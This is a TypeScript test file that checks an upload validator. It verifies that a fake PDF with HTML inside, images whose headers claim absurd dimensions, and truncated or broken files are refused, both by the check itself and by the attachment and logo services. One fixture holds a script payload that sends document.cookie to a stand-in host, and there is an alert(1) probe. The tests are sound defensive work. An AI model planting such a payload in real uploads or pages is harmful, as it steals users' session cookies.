/**
 * Uploads whose first bytes lie: an HTML page with a PDF header glued on, and images whose header
 * claims a size no camera makes. Built here byte by byte; refused by the check and by the services
 * that keep uploads (a candidate's attachment, the office's logo).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHarness, type Harness } from '../../../tests/support/core-harness';
import { candidateInput, TINY_PDF } from '../../../tests/support/fixtures';
import { contentProblem } from './content-check';
import { JPG, PDF, PNG } from './stored-files';

/** A PNG header (signature and IHDR) with the given size; the rest of the file does not matter to the check. */
function png(width: number, height: number): Buffer {
  const bytes = Buffer.alloc(64);
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]).copy(bytes, 0);
  bytes.writeUInt32BE(13, 8);
  bytes.write('IHDR', 12, 'latin1');
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  bytes[24] = 8;
  bytes[25] = 6;
  return bytes;
}

/** A JPEG with an APP0 segment and a baseline start-of-frame of the given size. */
function jpeg(width: number, height: number): Buffer {
  const app0 = Buffer.from([0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]);
  const sof = Buffer.from([0xff, 0xc0, 0x00, 0x11, 0x08, height >> 8, height & 0xff, width >> 8, width & 0xff, 0x03, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), app0, sof, Buffer.alloc(32), Buffer.from([0xff, 0xd9])]);
}

const HTML_AFTER_HEADER = Buffer.from('%PDF-1.7\n<html><body><script>fetch("https://x.example/?c="+document.cookie)</script></body></html>\n');

describe('content checks', () => {
  it('accepts a real PDF and ordinary images', () => {
    expect(contentProblem(TINY_PDF, PDF)).toBeNull();
    expect(contentProblem(png(1200, 800), PNG)).toBeNull();
    expect(contentProblem(jpeg(4000, 3000), JPG)).toBeNull();
    // An A3 page at 600 dpi.
    expect(contentProblem(jpeg(7016, 9921), JPG)).toBeNull();
  });

  it('refuses a file starting %PDF- with HTML after it (no %%EOF)', () => {
    expect(contentProblem(HTML_AFTER_HEADER, PDF)).toMatch(/^Il file si presenta come PDF ma contiene una pagina web \(HTML\)/);
  });

  it('refuses HTML in the header area even when the file ends with %%EOF, and HTML after the %%EOF', () => {
    expect(contentProblem(Buffer.concat([HTML_AFTER_HEADER, Buffer.from('%%EOF\n')]), PDF)).toMatch(/pagina web \(HTML\)/);
    expect(contentProblem(Buffer.concat([TINY_PDF, Buffer.from('<SCRIPT>alert(1)</SCRIPT>')]), PDF)).toMatch(/pagina web \(HTML\)/);
  });

  it('refuses a PDF cut short (no %%EOF in its last 1024 bytes)', () => {
    expect(contentProblem(TINY_PDF.subarray(0, TINY_PDF.length - 8), PDF)).toMatch(/^Il file PDF è incompleto o non è un vero PDF/);
  });

  it('refuses images whose header claims absurd dimensions: a side over 20,000 px, or over 100 megapixels', () => {
    expect(contentProblem(png(100_000, 10), PNG)).toMatch(/^L’immagine dichiara dimensioni impossibili per una foto o una scansione \(100000 × 10 pixel\)/);
    expect(contentProblem(png(15_000, 15_000), PNG)).toMatch(/15000 × 15000 pixel.*al massimo 20\.000 pixel per lato e 100 megapixel/);
    expect(contentProblem(jpeg(65_000, 65_000), JPG)).toMatch(/65000 × 65000 pixel/);
    expect(contentProblem(jpeg(30_000, 100), JPG)).toMatch(/30000 × 100 pixel/);
  });

  it('refuses a PNG whose first chunk is not its header', () => {
    const broken = png(10, 10);
    broken.write('tEXt', 12, 'latin1');
    expect(contentProblem(broken, PNG)).toMatch(/^Il file PNG è danneggiato/);
  });
});

describe('the services that keep uploads refuse them', () => {
  let h: Harness;
  let admin: string;
  let candidateId: string;

  beforeAll(async () => {
    h = createHarness();
    await h.setup();
    admin = await h.sessionAs('amministratore');
    candidateId = (await h.ok('candidates.create', candidateInput(), admin)).id;
  });
  afterAll(() => h.dispose());

  const attach = (fileName: string, bytes: Buffer) => h.call('candidates.addAttachment', { candidateId, kind: 'cv', fileName, contentBase64: bytes.toString('base64') }, admin);
  const message = (result: Awaited<ReturnType<typeof attach>>) => (result.ok ? 'accettato' : `${result.error.code}: ${result.error.message}`);

  it('a candidate’s attachment: HTML named .pdf and an image of absurd size, while a real PDF is kept', async () => {
    expect(message(await attach('cv.pdf', HTML_AFTER_HEADER))).toMatch(/^VALIDATION: Il file si presenta come PDF ma contiene una pagina web/);
    expect(message(await attach('foto.png', png(50_000, 50_000)))).toMatch(/^VALIDATION: L’immagine dichiara dimensioni impossibili/);
    expect(message(await attach('foto.jpg', jpeg(60_000, 2)))).toMatch(/^VALIDATION: L’immagine dichiara dimensioni impossibili/);
    expect((await attach('cv.pdf', TINY_PDF)).ok).toBe(true);
  });

  it('the office’s logo', async () => {
    const result = await h.call('documents.setLogo', { logo: { fileName: 'logo.png', contentBase64: png(30_000, 30_000).toString('base64') } }, admin);
    expect(result.ok ? 'accettato' : result.error.message).toMatch(/^L’immagine dichiara dimensioni impossibili/);
  });
});
